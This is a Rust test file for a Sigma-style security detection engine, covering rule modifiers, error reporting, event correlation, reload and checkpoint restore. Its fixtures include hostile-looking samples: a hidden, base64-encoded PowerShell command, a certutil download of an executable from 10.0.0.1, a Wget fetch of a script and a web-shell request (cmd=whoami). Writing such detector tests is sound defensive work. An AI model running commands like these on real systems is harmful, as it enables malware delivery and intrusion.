//! Rule loading, matching and correlation on hand-made events.

use std::path::Path;
use std::sync::Arc;

use ncsoc_model::{Event, IncidentKind, Timestamp};
use serde_json::Value;

use super::*;

fn event(ts: i64, sector: &str, fields: &[(&str, Value)]) -> Event {
    let mut e = Event::new(format!("e{ts}"), Timestamp::from_secs(ts), sector, "test");
    for (k, v) in fields {
        e.set(k, v.clone()).unwrap();
    }
    e
}

const MAPPING: &str = r#"
keyword_fields: [message]
fields:
  Image: [process.executable]
  CommandLine: [process.command_line]
logsources:
  - product: windows
    category: process_creation
    when: {event.category: process}
    prefixes: [winlog.event_data.]
  - product: "*"
    category: firewall
    when: {event.category: network}
  - product: linux
    when: {log.syslog.priority|exists: true}
"#;

fn set_of(rules: &[(&str, &str)]) -> RuleSet {
    let mut s = RuleSet::new(Mapping::parse(MAPPING).unwrap());
    for (file, src) in rules {
        s.add_source(file, src);
    }
    s.finish();
    s
}

fn hits(set: &RuleSet, e: &Event) -> Vec<String> {
    let mut sc = Scratch::default();
    let mut out = Vec::new();
    set.matches(e, &mut sc, &mut out);
    out.iter()
        .map(|&i| set.rules()[i as usize].meta.id.clone())
        .collect()
}

fn proc_rule(id: &str, detection: &str) -> String {
    format!(
        "title: {id}\nid: {id}\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n{detection}\nlevel: high\ntags: [attack.execution, attack.t1059.001]\n"
    )
}

fn proc_event(image: &str, cmd: &str) -> Event {
    event(
        100,
        "energy",
        &[
            ("event.category", Value::from("process")),
            ("process.executable", Value::from(image)),
            ("process.command_line", Value::from(cmd)),
            ("winlog.event_data.IntegrityLevel", Value::from("High")),
            ("winlog.event_data.ProcessId", Value::from(4242)),
            ("winlog.event_data.User", Value::from("CORP\\alice")),
            ("winlog.event_data.ParentUser", Value::from("corp\\ALICE")),
            ("source.ip", Value::from("10.1.1.5")),
        ],
    )
}

#[test]
fn shipped_rules_all_load() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let set = RuleSet::load_dir(&dir);
    assert_eq!(set.errors(), &[], "every shipped rule loads");
    let sum = set.summary();
    assert!(sum.rules >= 219, "{sum:?}");
    assert_eq!(sum.dormant, 0, "{sum:?}");
    assert!(sum.correlations >= 2, "{sum:?}");
    mapping::Mapping::parse(mapping::BUILTIN).unwrap();
}

#[test]
fn modifiers_on_events() {
    let set = set_of(&[(
        "r.yml",
        &[
            proc_rule("endswith", "  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel"),
            proc_rule("all", "  sel:\n    CommandLine|contains|all: ['-enc', 'hidden']\n  condition: sel"),
            proc_rule("allmiss", "  sel:\n    CommandLine|contains|all: ['-enc', 'nothere']\n  condition: sel"),
            proc_rule("windash", "  sel:\n    CommandLine|windash|contains: ' -w '\n  condition: sel"),
            proc_rule("b64", "  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel"),
            proc_rule("re", "  sel:\n    CommandLine|re: '-[Ee]nc\\s+[A-Za-z0-9+/=]{8,}'\n  condition: sel"),
            proc_rule("re_cased_miss", "  sel:\n    CommandLine|re: 'POWERSHELL'\n  condition: sel"),
            proc_rule("cased_miss", "  sel:\n    Image|cased|endswith: 'POWERSHELL.EXE'\n  condition: sel"),
            proc_rule("exists", "  sel:\n    IntegrityLevel|exists: true\n    Nope|exists: false\n  condition: sel"),
            proc_rule("isnull", "  sel:\n    Nope: null\n  condition: sel"),
            proc_rule("num", "  sel:\n    ProcessId|gte: 4000\n    ProcessId|lt: 5000\n  condition: sel"),
            proc_rule("fieldref", "  sel:\n    User|fieldref: ParentUser\n  condition: sel"),
            proc_rule("cidr", "  sel:\n    source.ip|cidr: 10.0.0.0/8\n  condition: sel"),
            proc_rule("notfilter", "  sel:\n    Image|endswith: '.exe'\n  filter_a:\n    CommandLine|contains: 'hidden'\n  condition: sel and not 1 of filter_*"),
            proc_rule("glob", "  sel:\n    CommandLine: 'powershell*-w?hidden*'\n  condition: sel"),
            proc_rule("list_of_maps", "  sel:\n    - Image|endswith: '\\cmd.exe'\n    - CommandLine|contains: 'ENC'\n  condition: sel"),
        ]
        .join("---\n"),
    )]);
    assert_eq!(set.errors(), &[]);
    // "http://x" base64-encoded at an offset inside the command line.
    let cmd = "powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA aHR0cDovL3g=";
    let got = hits(
        &set,
        &proc_event(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe",
            cmd,
        ),
    );
    let mut want = vec![
        "endswith",
        "all",
        "windash",
        "b64",
        "re",
        "exists",
        "isnull",
        "num",
        "fieldref",
        "cidr",
        "glob",
        "list_of_maps",
    ];
    want.sort_unstable();
    let mut got_sorted = got.clone();
    got_sorted.sort();
    assert_eq!(got_sorted, want);
    // The same with a slash for the dash (windash), and no `hidden` (the filter lets it through).
    let got = hits(&set, &proc_event("C:\\x\\other.exe", "tool.exe /w 1"));
    assert!(got.contains(&"windash".to_string()), "{got:?}");
    assert!(got.contains(&"notfilter".to_string()), "{got:?}");
    // Rules are evaluated only on the events their log source accepts.
    let mut flow = proc_event("C:\\x\\powershell.exe", cmd);
    flow.fields.category = vec!["network".into()];
    assert_eq!(hits(&set, &flow), Vec::<String>::new());
}

#[test]
fn keywords_search_the_message() {
    let set = set_of(&[(
        "k.yml",
        "title: kw\nid: kw\nlogsource: {product: linux}\ndetection:\n  keywords:\n    - 'segfault at'\n    - 'Accepted publickey for root'\n  condition: keywords\n",
    )]);
    let e = |msg: &str| {
        event(
            1,
            "health",
            &[
                ("message", Value::from(msg)),
                ("log.syslog.priority", Value::from(13)),
            ],
        )
    };
    assert_eq!(hits(&set, &e("kernel: app[12]: SEGFAULT AT 0 ip")), ["kw"]);
    assert!(hits(&set, &e("all good")).is_empty());
}

#[test]
fn invalid_rules_name_file_line_and_reason_and_the_rest_load() {
    let good = proc_rule(
        "good",
        "  sel:\n    Image|endswith: '\\x.exe'\n  condition: sel",
    );
    let set = set_of(&[
        (
            "bad_modifier.yml",
            &proc_rule("m", "  sel:\n    Image|bogus: x\n  condition: sel"),
        ),
        (
            "bad_cond.yml",
            &proc_rule("c", "  sel:\n    Image: x\n  condition: sel and other"),
        ),
        (
            "bad_re.yml",
            &proc_rule("r", "  sel:\n    Image|re: '('\n  condition: sel"),
        ),
        ("bad_yaml.yml", "title: x\ndetection: [\n"),
        (
            "no_title.yml",
            "id: x\ndetection:\n  sel: {a: 1}\n  condition: sel\n",
        ),
        (
            "agg.yml",
            &proc_rule("a", "  sel:\n    Image: x\n  condition: sel | count() > 5"),
        ),
        ("good.yml", &good),
    ]);
    let errs: Vec<String> = set.errors().iter().map(ToString::to_string).collect();
    assert_eq!(errs.len(), 6, "{errs:#?}");
    assert!(
        errs[0].starts_with("bad_modifier.yml:8: ") && errs[0].contains("unknown modifier `bogus`"),
        "{}",
        errs[0]
    );
    assert!(
        errs[1].starts_with("bad_cond.yml:9: ") && errs[1].contains("`other`"),
        "{}",
        errs[1]
    );
    assert!(
        errs[2].starts_with("bad_re.yml:8: ") && errs[2].contains("regular expression"),
        "{}",
        errs[2]
    );
    assert!(
        errs[3].starts_with("bad_yaml.yml:") && errs[3].contains("invalid YAML"),
        "{}",
        errs[3]
    );
    assert!(errs[4].contains("missing `title`"), "{}", errs[4]);
    assert!(errs[5].contains("aggregation"), "{}", errs[5]);
    assert_eq!(set.rules().len(), 1);
    assert_eq!(set.rules()[0].meta.id, "good");
}

#[test]
fn engine_signals_carry_rule_level_attack_and_links() {
    let set = set_of(&[(
        "r.yml",
        &proc_rule(
            "ps",
            "  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel",
        ),
    )]);
    let mut eng = SigmaEngine::new(Arc::new(set));
    let mut out = Vec::new();
    let mut e = proc_event("C:\\powershell.exe", "x");
    e.fields.host_name = Some("WS01".into());
    e.fields.user_name = Some("alice".into());
    eng.observe(&e, &mut out);
    assert_eq!(out.len(), 1);
    let s = &out[0];
    assert_eq!(s.kind, IncidentKind::Sigma);
    assert_eq!(s.score, 70);
    assert_eq!(s.attack, ["T1059.001"]);
    assert_eq!(s.evidence.rule.as_deref(), Some("ps ps"));
    assert_eq!(s.evidence.sample_event_ids, [e.id.clone()]);
    assert!(
        s.links.contains(&"ip:10.1.1.5".to_string()),
        "{:?}",
        s.links
    );
    assert!(
        s.links.contains(&"host:energy|ws01".to_string()),
        "{:?}",
        s.links
    );
    assert!(s.links.contains(&"user:alice".to_string()), "{:?}", s.links);
}

fn fw(ts: i64, sector: &str, src: &str, dst: &str, port: u16) -> Event {
    event(
        ts,
        sector,
        &[
            ("event.category", Value::from("network")),
            ("source.ip", Value::from(src)),
            ("destination.ip", Value::from(dst)),
            ("destination.port", Value::from(port)),
            ("network.bytes", Value::from(1000)),
        ],
    )
}

const BASE: &str = "title: conn\nid: conn\nname: conn\nlogsource: {category: firewall}\ndetection:\n  sel:\n    destination.port|exists: true\n  condition: sel\n";

#[test]
fn event_count_per_group_in_event_time() {
    let corr = "title: many\nid: many\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [conn]\n  group-by: [source.ip]\n  timespan: 1m\n  condition: {gte: 3}\n";
    let set = set_of(&[("r.yml", &format!("{BASE}---\n{corr}"))]);
    assert_eq!(set.errors(), &[]);
    let mut eng = SigmaEngine::new(Arc::new(set));
    let mut out = Vec::new();
    // Two in a minute, then a gap: no.
    for t in [0, 30, 200] {
        eng.observe(&fw(t, "energy", "203.0.113.9", "10.0.0.1", 22), &mut out);
    }
    // The base rule is only input to the correlation (generate: false).
    assert!(out.is_empty(), "{out:?}");
    // Another source does not count toward the first.
    eng.observe(&fw(210, "energy", "198.51.100.1", "10.0.0.1", 22), &mut out);
    eng.observe(&fw(220, "finance", "203.0.113.9", "10.0.0.2", 22), &mut out);
    assert!(out.is_empty());
    eng.observe(&fw(230, "health", "203.0.113.9", "10.0.0.3", 22), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].kind, IncidentKind::Sigma);
    assert_eq!(out[0].evidence.observed, Some(3.0));
    assert_eq!(out[0].key, "many|203.0.113.9");
    assert_eq!(out[0].start_ms, 200_000);
}

#[test]
fn value_count_and_temporal_ordered() {
    let vc = "title: ports\nid: ports\ncorrelation:\n  type: value_count\n  rules: [conn]\n  group-by: [source.ip]\n  timespan: 5m\n  condition: {gte: 3, field: destination.port}\n";
    let a = "title: a\nid: a\nname: a\nlogsource: {category: firewall}\ndetection:\n  sel: {destination.port: 22}\n  condition: sel\n";
    let b = "title: b\nid: b\nname: b\nlogsource: {category: firewall}\ndetection:\n  sel: {destination.port: 445}\n  condition: sel\n";
    let ord = "title: then\nid: then\ncorrelation:\n  type: temporal_ordered\n  rules: [a, b]\n  group-by: [source.ip]\n  timespan: 5m\n";
    let set = set_of(&[("r.yml", &[BASE, vc, a, b, ord].join("---\n"))]);
    assert_eq!(set.errors(), &[]);
    let mut eng = SigmaEngine::new(Arc::new(set));
    let mut out = Vec::new();
    // 445 before 22: not in order.
    eng.observe(&fw(0, "energy", "203.0.113.9", "10.0.0.1", 445), &mut out);
    eng.observe(&fw(10, "energy", "203.0.113.9", "10.0.0.1", 22), &mut out);
    eng.observe(&fw(11, "energy", "203.0.113.9", "10.0.0.1", 22), &mut out);
    assert!(out.is_empty(), "{out:?}");
    eng.observe(&fw(20, "energy", "203.0.113.9", "10.0.0.1", 445), &mut out);
    let ids: Vec<&str> = out.iter().map(|s| s.title.as_str()).collect();
    // 445, 22, 22, 445: three ports? no — two distinct, plus the order 22 → 445 holds.
    assert_eq!(ids, ["then"]);
    eng.observe(&fw(30, "energy", "203.0.113.9", "10.0.0.1", 3389), &mut out);
    let ids: Vec<&str> = out.iter().map(|s| s.title.as_str()).collect();
    assert_eq!(ids, ["then", "ports"]);
}

#[test]
fn threshold_distinct_sectors_and_sum() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/threshold");
    let mut set = RuleSet::new(Mapping::builtin());
    set.add_source(
        "t.yml",
        &std::fs::read_to_string(dir.join("cross_sector.yml")).unwrap(),
    );
    set.finish();
    assert_eq!(set.errors(), &[]);
    let mut eng = SigmaEngine::new(Arc::new(set));
    let mut out = Vec::new();
    let fail = |t: i64, sector: &str| {
        event(
            t,
            sector,
            &[
                ("event.category", Value::from("authentication")),
                ("event.outcome", Value::from("failure")),
                ("source.ip", Value::from("203.0.113.50")),
            ],
        )
    };
    for (t, s) in [(0, "energy"), (10, "energy"), (20, "finance")] {
        eng.observe(&fail(t, s), &mut out);
    }
    assert!(out.is_empty());
    eng.observe(&fail(30, "health"), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].kind, IncidentKind::Threshold);
    assert_eq!(out[0].evidence.observed, Some(3.0));
    assert!(out[0].links.contains(&"ip:203.0.113.50".to_string()));
    out.clear();
    let big = |t: i64, bytes: u64| {
        event(
            t,
            "transport",
            &[
                ("event.category", Value::from("network")),
                ("network.direction", Value::from("outbound")),
                ("destination.ip", Value::from("192.0.2.7")),
                ("network.bytes", Value::from(bytes)),
            ],
        )
    };
    eng.observe(&big(0, 3_000_000_000), &mut out);
    assert!(out.is_empty());
    eng.observe(&big(60, 3_000_000_000), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].evidence.observed, Some(6e9));
}

#[test]
fn matching_does_not_depend_on_scratch_reuse() {
    let set = set_of(&[(
        "r.yml",
        &proc_rule(
            "ps",
            "  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel",
        ),
    )]);
    let mut sc = Scratch::default();
    let mut out = Vec::new();
    for i in 0..100 {
        out.clear();
        let img = if i % 2 == 0 {
            "C:\\powershell.exe"
        } else {
            "C:\\cmd.exe"
        };
        set.matches(&proc_event(img, "x"), &mut sc, &mut out);
        assert_eq!(out.len(), usize::from(i % 2 == 0));
    }
}

#[test]
fn dispatch_and_prefilter_find_what_evaluating_everything_finds() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let fast = RuleSet::load_dir(&dir);
    let mut slow = RuleSet::load_dir(&dir);
    slow.without_dispatch();
    let mut syslog = event(
        5,
        "health",
        &[
            ("log.syslog.priority", Value::from(38)),
            ("process.name", Value::from("sshd")),
            (
                "message",
                Value::from("error: PAM: Authentication failure for illegal user admin"),
            ),
        ],
    );
    syslog.fields.original = Some("<38>Jan 1 00:00:00 h sshd[1]: x".into());
    let mut cisco = event(
        6,
        "transport",
        &[(
            "message",
            Value::from("User:admin  logged command:no dot1x port-control"),
        )],
    );
    cisco.fields.original = Some(
        "<189>1: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no dot1x port-control"
            .into(),
    );
    let events = [
        proc_event(
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -f http://10.0.0.1/a.exe a.exe",
        ),
        proc_event("C:\\x\\svchost.exe", "svchost -k netsvcs"),
        fw(1, "energy", "203.0.113.9", "10.0.0.1", 3306),
        event(
            2,
            "energy",
            &[
                ("event.dataset", Value::from("zeek.dns")),
                ("dns.question.name", Value::from("x.onion")),
                ("source.ip", Value::from("10.0.0.2")),
            ],
        ),
        event(
            3,
            "energy",
            &[
                ("event.dataset", Value::from("zeek.http")),
                ("url.original", Value::from("/x.ps1")),
                ("user_agent.original", Value::from("Wget/1.0")),
                ("http.request.method", Value::from("GET")),
            ],
        ),
        event(
            4,
            "energy",
            &[
                ("event.dataset", Value::from("apache.access")),
                ("url.original", Value::from("/index.php?cmd=whoami")),
                ("message", Value::from("GET /index.php?cmd=whoami")),
            ],
        ),
        syslog,
        cisco,
    ];
    let mut total = 0;
    for e in &events {
        let (a, b) = (hits(&fast, e), hits(&slow, e));
        assert_eq!(a, b, "{e:?}");
        total += a.len();
    }
    assert!(total >= 3, "the sample events fire some rules ({total})");
    // Case never matters, whether the value is ASCII (compared folding case in place) or
    // not (lower-cased first): the same event in capitals, or with a non-ASCII
    // character in a part no rule reads, fires the same rules.
    let sysmon = |image: &str, cmd: &str| {
        let mut e = proc_event(image, cmd);
        e.set(
            "winlog.channel",
            Value::from("Microsoft-Windows-Sysmon/Operational"),
        )
        .unwrap();
        e.set("winlog.event_id", Value::from(1)).unwrap();
        e
    };
    let lower = sysmon(
        "c:\\windows\\system32\\certutil.exe",
        "certutil -urlcache -f http://10.0.0.1/a.exe a.exe",
    );
    let upper = sysmon(
        "C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE",
        "CERTUTIL -URLCACHE -F HTTP://10.0.0.1/A.EXE A.EXE",
    );
    let accented = sysmon(
        "C:\\Windows\\System32\\CertUtil.exe",
        "CertUtil -URLCache -f http://10.0.0.1/Jürgen.exe Jürgen.exe",
    );
    let expected = hits(&slow, &lower);
    assert!(!expected.is_empty());
    for e in [&lower, &upper, &accented] {
        assert_eq!(hits(&fast, e), expected, "{e:?}");
        assert_eq!(hits(&slow, e), expected, "{e:?}");
    }
}

/// Five port-22 connections from one source within ten minutes (the base rule `conn`
/// counts any connection with a port).
const FIVE: &str = "title: five\nid: five\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [conn]\n  group-by: [source.ip]\n  timespan: 10m\n  condition: {gte: 5}\n";

fn five_set(corr: &str, extra: &str) -> Arc<RuleSet> {
    let src = if extra.is_empty() {
        format!("{BASE}---\n{corr}")
    } else {
        format!("{extra}---\n{BASE}---\n{corr}")
    };
    let set = set_of(&[("r.yml", &src)]);
    assert_eq!(set.errors(), &[]);
    Arc::new(set)
}

fn feed(eng: &mut SigmaEngine, times: std::ops::Range<i64>) -> Vec<Signal> {
    let mut out = Vec::new();
    for t in times {
        eng.observe(
            &fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22),
            &mut out,
        );
    }
    out
}

#[test]
fn reload_keeps_the_windows_of_unchanged_correlations() {
    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
    assert!(feed(&mut eng, 0..3).is_empty());
    assert_eq!(eng.windows().groups(), 1);
    // The same correlation reloaded, in a set where another rule now comes first (so every
    // rule index moved) and its title and level changed: the window carries over.
    let other = "title: other\nid: other\nlogsource: {category: firewall}\ndetection:\n  sel: {destination.port: 3389}\n  condition: sel\n";
    let renamed = FIVE
        .replace("title: five", "title: five connections")
        .replace("level: high", "level: critical");
    eng.replace(five_set(&renamed, other));
    let out = feed(&mut eng, 3..5);
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].title, "five connections");
    assert_eq!(out[0].evidence.observed, Some(5.0));
    assert_eq!(out[0].start_ms, 0);
}

#[test]
fn reload_starts_changed_correlations_afresh() {
    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
    assert!(feed(&mut eng, 0..3).is_empty());
    // The window grows to 20 minutes: a new definition, a new count.
    eng.replace(five_set(&FIVE.replace("10m", "20m"), ""));
    assert_eq!(eng.windows().groups(), 0);
    assert!(feed(&mut eng, 3..7).is_empty());
    let out = feed(&mut eng, 7..8);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].start_ms, 30_000);
    // So does a change in the rule it counts.
    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
    assert!(feed(&mut eng, 0..3).is_empty());
    let base = BASE.replace("destination.port|exists: true", "destination.port: 22");
    let set = set_of(&[("r.yml", &format!("{base}---\n{FIVE}"))]);
    eng.replace(Arc::new(set));
    assert!(feed(&mut eng, 3..7).is_empty());
    // A correlation removed and brought back has lost its window too.
    let mut eng = SigmaEngine::new(five_set(FIVE, ""));
    assert!(feed(&mut eng, 0..3).is_empty());
    eng.replace(Arc::new(set_of(&[("r.yml", BASE)])));
    eng.replace(five_set(FIVE, ""));
    assert!(feed(&mut eng, 3..7).is_empty());
}

#[test]
fn checkpoint_mid_window_fires_after_restore() {
    use crate::{Detector, DetectorConfig};
    let fired = |d: &mut Detector| {
        d.take_changed()
            .into_iter()
            .filter(|i| i.title.contains("five"))
            .count()
    };
    let mut d = Detector::new(DetectorConfig::default()).unwrap();
    d.set_rules(Some(five_set(FIVE, "")));
    for t in 0..3 {
        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
    }
    assert_eq!(fired(&mut d), 0);
    let bytes = d.checkpoint().unwrap();
    // The checkpoint is the same bytes for the same state.
    assert_eq!(bytes, d.checkpoint().unwrap());
    let restart = |bytes: &[u8]| {
        let mut d = Detector::restore(DetectorConfig::default(), bytes).unwrap();
        // Rules are loaded from their folder again after the restart.
        d.set_rules(Some(five_set(FIVE, "")));
        d
    };
    let mut d = restart(&bytes);
    assert_eq!(d.rules().unwrap().windows().groups(), 1);
    for t in 3..5 {
        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
    }
    assert_eq!(fired(&mut d), 1);
    // Without the windows (a checkpoint taken before any rule ran), the same two events
    // are not enough.
    let mut fresh = Detector::new(DetectorConfig::default()).unwrap();
    let mut d = restart(&fresh.checkpoint().unwrap());
    for t in 3..5 {
        d.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22));
    }
    assert_eq!(fired(&mut d), 0);
    assert_eq!(fired(&mut fresh), 0);
    // A checkpoint written before windows were checkpointed still restores.
    let mut old: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    old.as_object_mut().unwrap().remove("sigma_windows");
    let d = restart(&serde_json::to_vec(&old).unwrap());
    assert_eq!(d.rules().unwrap().windows().groups(), 0);
}
